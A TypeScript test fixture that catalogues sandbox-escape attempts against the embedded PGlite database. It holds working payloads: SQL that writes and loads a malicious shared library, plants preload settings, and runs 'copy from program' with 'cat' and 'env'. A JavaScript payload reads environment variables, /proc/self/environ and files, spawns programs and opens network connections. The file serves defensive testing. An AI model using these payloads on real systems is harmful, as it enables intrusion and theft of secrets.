import { sideModule } from './side-module.js';

/** The targets of an escape. None of them may be read, created or reached. */
export interface Targets {
  readonly variable: string;
  readonly file: string;
  /** A file that does not exist. */
  readonly absent: string;
  /** A library on the machine's disk that evaluates `attack`. */
  readonly library: string;
  readonly port: number;
  readonly datagrams: number;
  readonly socket: string;
}

/** An attempt to escape from the embedded Postgres. */
export interface Escape {
  readonly name: string;
  /**
   * It succeeds if no layer prevents it. The others fail in PGlite itself, which has no programs, no network and no
   * disk.
   */
  readonly succeeds?: true;
  readonly sql: (targets: Targets) => readonly string[];
  /** Extensions that the SQL creates. */
  readonly extensions?: readonly string[];
  /** What it leaves behind is copied, and a second server starts from the copy. */
  readonly startsAgain?: true;
}

const answerFile = '/pglite/data/answer';

/** JavaScript that tries everything that a program can do, and leaves the results where SQL can read them. */
export function attack({ variable, file, absent, port, datagrams, socket }: Targets): string {
  const text = JSON.stringify;
  return `(() => {
    const came = {};
    const attempt = (name, work) => { try { came[name] = String(work()).slice(0, 300); } catch (error) { came[name] = 'refused: ' + error.message; } };
    const get = (name) => typeof process.getBuiltinModule === 'function' ? process.getBuiltinModule(name) : require(name);
    const nothing = () => {};
    const quiet = (emitter) => { emitter.on('error', nothing); return emitter; };
    attempt('variable', () => process.env[${text(variable)}] ?? (() => { throw new Error('not there'); })());
    attempt('report', () => JSON.stringify(process.report.getReport()));
    attempt('file', () => get('node:fs').readFileSync(${text(file)}, 'utf8'));
    attempt('file by require', () => require('node:fs').readFileSync(${text(file)}, 'utf8'));
    attempt('descriptor', () => get('node:fs').readFileSync('/proc/self/environ', 'utf8'));
    attempt('write', () => get('node:fs').writeFileSync(${text(absent)}, ''));
    attempt('link', () => get('node:fs').symlinkSync(${text(file)}, ${text(absent)}));
    attempt('program', () => get('node:child_process').execFileSync('touch', [${text(absent)}]));
    attempt('worker', () => new (get('node:worker_threads').Worker)(${text(`require('fs').writeFileSync(${text(absent)}, '')`)}, { eval: true, execArgv: [] }).on('error', nothing));
    attempt('add-on', () => process.dlopen({ exports: {} }, ${text(file)}));
    attempt('binding', () => process.binding('tcp_wrap').TCP);
    attempt('inspector', () => get('node:inspector').open(0, '127.0.0.1'));
    attempt('wasi', () => new (get('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }));
    attempt('database', () => { const found = get('node:sqlite'); if (!found) throw new Error('not there'); return new found.DatabaseSync(${text(absent)}); });
    attempt('heap', () => get('node:v8').writeHeapSnapshot(${text(absent)}));
    attempt('signal', () => process.kill(process.ppid, 0));
    attempt('debugger', () => process._debugProcess(process.pid));
    attempt('connection by a handle', () => { const tcp = process.binding('tcp_wrap'); return new tcp.TCP(tcp.constants.SOCKET).connect(new tcp.TCPConnectWrap(), '127.0.0.1', ${port}); });
    attempt('connection', () => quiet(get('node:net').connect(${port}, '127.0.0.1')));
    attempt('connection by a class', () => quiet(Reflect.construct(Object.getPrototypeOf(get('node:tls').TLSSocket), [])).connect(${port}, '127.0.0.1'));
    attempt('socket file', () => quiet(get('node:net').connect(${text(socket)})));
    attempt('listening', () => quiet(get('node:net').createServer()).listen(0));
    // Where it could have it, the server would lose it.
    if (!process.argv.includes('--armed')) attempt('inherited pipe', () => quiet(new (get('node:net').Socket)({ fd: 3 }))._handle.constructor);
    attempt('TLS', () => quiet(get('node:tls').connect(${port}, '127.0.0.1')));
    attempt('HTTP', () => quiet(get('node:http').get('http://127.0.0.1:${port}')));
    attempt('HTTPS', () => quiet(get('node:https').get('https://127.0.0.1:${port}')));
    attempt('HTTP/2', () => quiet(get('node:http2').connect('http://127.0.0.1:${port}')));
    attempt('datagram', () => { const made = quiet(get('node:dgram').createSocket('udp4')); made.send('x', ${datagrams}, '127.0.0.1'); return made; });
    attempt('name', () => get('node:dns').lookup('localhost', nothing));
    attempt('names', () => new (get('node:dns').Resolver)().resolve4('localhost', nothing));
    attempt('fetch', () => { const asked = fetch('http://127.0.0.1:${port}'); asked.catch(nothing); return asked; });
    attempt('WebSocket', () => { const made = new WebSocket('ws://127.0.0.1:${port}'); made.onerror = nothing; return made; });
    attempt('host', () => get('node:os').hostname());
    FS.writeFile(${text(answerFile)}, JSON.stringify(came));
  })()`;
}

const answer = `select pg_read_file('${answerFile}') as answer`;
const written = (path: string, bytes: Buffer) =>
  `do $do$ declare o oid := lo_from_bytea(0, decode('${bytes.toString('base64')}', 'base64')); begin perform lo_export(o, '${path}'); end $do$`;
const evil = (targets: Targets) => sideModule({ emJs: attack(targets) });
const evilAt = (path: string) => (targets: Targets) => written(path, evil(targets));
const inData = evilAt('/pglite/data/evil.so');
const control = Buffer.from("default_version = '1'\nmodule_pathname = '/pglite/data/evil'\n");
const script = Buffer.from("create function evil() returns int language c as '/pglite/data/evil', 'evil';");
const settings = [
  "shared_preload_libraries = '/pglite/data/evil.so'",
  "session_preload_libraries = '/pglite/data/evil.so'",
  "local_preload_libraries = '/pglite/data/evil.so'",
  "jit_provider = '/pglite/data/evil'",
  "archive_library = '/pglite/data/evil'",
  "dynamic_library_path = '/pglite/data'",
  'wal_level = logical',
];

/** Every known escape. Its last statement returns what it obtained. */
export const escapes: readonly Escape[] = [
  {
    name: 'a library with __em_js__, in the data directory',
    succeeds: true,
    sql: (to) => [inData(to), "load '/pglite/data/evil.so'", answer],
  },
  {
    name: 'a library with __em_js__, in /tmp',
    succeeds: true,
    sql: (to) => [evilAt('/tmp/evil.so')(to), "load '/tmp/evil.so'", answer],
  },
  {
    name: 'the same, put together at run time and with its failure caught',
    succeeds: true,
    sql: (to) => [
      `do $$ begin execute ${quoted(inData(to))}; execute 'lo' || 'ad ''/pglite/data/evil.so'''; exception when others then null; end $$`,
      answer,
    ],
  },
  {
    name: 'a library with __em_asm',
    succeeds: true,
    sql: (to) => [
      written('/pglite/data/asm.so', sideModule({ emAsm: attack(to) })),
      "load '/pglite/data/asm.so'",
      answer,
    ],
  },
  {
    name: 'a library that needs one in the data directory',
    succeeds: true,
    sql: (to) => [
      inData(to),
      written('/pglite/data/needs.so', sideModule({ needed: ['/pglite/data/evil.so'] })),
      "load '/pglite/data/needs.so'",
      answer,
    ],
  },
  {
    name: "a library that needs one on the machine's disk",
    succeeds: true,
    sql: (to) => [
      written('/pglite/data/needs.so', sideModule({ needed: [`${'../'.repeat(30)}${to.library.slice(1)}`] })),
      "load '/pglite/data/needs.so'",
      answer,
    ],
  },
  {
    name: 'code of its own that opens a socket',
    sql: () => [
      written(
        '/pglite/data/native.so',
        sideModule({ calls: { name: '__syscall_socket', values: [2, 1, 0, 0, 0, 0] } }),
      ),
      "load '/pglite/data/native.so'",
      "select 'ran' as ran",
    ],
  },
  {
    name: 'a library that came with PGlite, overwritten',
    succeeds: true,
    sql: (to) => [
      evilAt('/pglite/lib/postgresql/latin2_and_win1250.so')(to),
      "select convert('x', 'LATIN2', 'WIN1250')",
      answer,
    ],
  },
  {
    name: "an extension's library, overwritten",
    extensions: ['hstore'],
    sql: (to) => [evilAt('/pglite/lib/postgresql/hstore.so')(to), 'create extension hstore', answer],
  },
  {
    name: 'a control file beside those of extensions',
    succeeds: true,
    sql: (to) => [
      inData(to),
      written('/pglite/share/postgresql/extension/evil.control', control),
      written('/pglite/share/postgresql/extension/evil--1.sql', script),
      'create extension evil',
      answer,
    ],
  },
  {
    name: 'a control file on extension_control_path',
    sql: (to) => [
      inData(to),
      "select pg_read_file('/pglite/data/PG_VERSION')",
      written('/pglite/data/base/evil.control', control),
      written('/pglite/data/base/evil--1.sql', script),
      "set extension_control_path = '/pglite/data/base'",
      'create extension evil',
      answer,
    ],
  },
  {
    name: 'a function in C, by its path',
    succeeds: true,
    sql: (to) => [inData(to), "create function evil() returns int language c as '/pglite/data/evil', 'evil'", answer],
  },
  {
    name: 'a library on dynamic_library_path',
    succeeds: true,
    sql: (to) => [inData(to), "set dynamic_library_path = '/pglite/data'", "load 'evil'", answer],
  },
  {
    name: 'a library below $libdir with dots',
    succeeds: true,
    sql: (to) => [inData(to), "load '$libdir/../../data/evil'", answer],
  },
  {
    name: 'a plugin of logical replication',
    sql: (to) => [inData(to), "select pg_create_logical_replication_slot('s', '/pglite/data/evil')", answer],
  },
  {
    name: 'settings for the next start, by ALTER SYSTEM',
    succeeds: true,
    startsAgain: true,
    sql: (to) => [inData(to), ...settings.map((setting) => `alter system set ${setting}`), answer],
  },
  {
    name: 'settings for the next start, by a large object',
    succeeds: true,
    startsAgain: true,
    sql: (to) => [inData(to), written('/pglite/data/postgresql.auto.conf', Buffer.from(settings.join('\n'))), answer],
  },
  { name: 'a program that is written to', sql: ({ absent }) => [`copy (select 1) to program 'touch ${absent}'`] },
  {
    name: 'a program that is read from',
    sql: ({ file }) => ['create temp table t (t text)', `copy t from program 'cat ${file}; env'`, 'select * from t'],
  },
  {
    name: 'a program that archives',
    sql: ({ absent }) => [
      `alter system set archive_command = 'touch ${absent}'`,
      "alter system set archive_mode = 'on'",
      'select pg_reload_conf()',
      'select pg_switch_wal()',
      'checkpoint',
    ],
  },
  { name: 'a file that is read', sql: ({ file }) => [`select pg_read_file('${file}')`] },
  {
    name: 'a file that is read as bytes',
    sql: ({ file }) => [`select convert_from(pg_read_binary_file('${file}'), 'UTF8')`],
  },
  {
    name: 'a file that is copied from',
    sql: ({ file }) => ['create temp table t (t text)', `copy t from '${file}'`, 'select * from t'],
  },
  { name: 'a file that is copied to', sql: ({ absent }) => [`copy (select 1) to '${absent}'`] },
  {
    name: 'a file as a large object',
    sql: ({ file }) => [`select convert_from(lo_get(lo_import('${file}')), 'UTF8')`],
  },
  { name: 'a large object as a file', sql: ({ absent }) => [written(absent, Buffer.from('x'))] },
  {
    name: 'a file as a foreign table',
    extensions: ['file_fdw'],
    sql: ({ file }) => [
      'create extension file_fdw',
      'create server f foreign data wrapper file_fdw',
      `create foreign table f (t text) server f options (filename '${file}')`,
      'select * from f',
    ],
  },
  {
    name: 'a program as a foreign table',
    extensions: ['file_fdw'],
    sql: ({ file }) => [
      'create extension file_fdw',
      'create server f foreign data wrapper file_fdw',
      `create foreign table f (t text) server f options (program 'cat ${file}')`,
      'select * from f',
    ],
  },
  {
    name: 'folders that are listed',
    sql: () => [
      "select string_agg(name, ' ') from pg_ls_dir('/') as name",
      "select string_agg(name, ' ') from pg_ls_dir('/proc/self/fd') as name",
    ],
  },
  {
    name: 'devices',
    sql: () => [
      'create temp table t (t text)',
      ...['stdin', 'tty', 'tty1', 'blob'].map((device) => `copy t from '/dev/${device}'`),
      "copy (select 1) to '/dev/stdout'",
      "copy (select 1) to '/dev/tty'",
      'select * from t',
    ],
  },
  {
    name: '/proc',
    sql: () => [
      "select pg_read_file('/proc/self/environ')",
      "select pg_read_file('/proc/self/fd/3', 0, 1)",
      "select pg_read_file('/proc/self/fd/0', 0, 1)",
    ],
  },
  {
    name: 'a tablespace elsewhere',
    sql: () => [
      "create tablespace t location '/home'",
      "create tablespace t location '/pglite/lib'",
      'create table t (id int) tablespace t',
    ],
  },
  { name: 'a time zone above its folder', sql: ({ file }) => [`set timezone = '../../../..${file}'`, 'show timezone'] },
  {
    name: 'stop words above their folder',
    sql: ({ file }) => [
      `create text search dictionary d (template = simple, stopwords = '../../../..${file}')`,
      "select ts_lexize('d', 'x')",
    ],
  },
  {
    name: 'another server',
    sql: ({ port, socket }) => [
      `create subscription s connection 'host=127.0.0.1 port=${port}' publication p`,
      `create subscription s connection 'host=${socket}' publication p`,
      'create extension dblink',
      'create extension postgres_fdw',
    ],
  },
];

function quoted(sql: string): string {
  return `'${sql.replaceAll("'", "''")}'`;
}
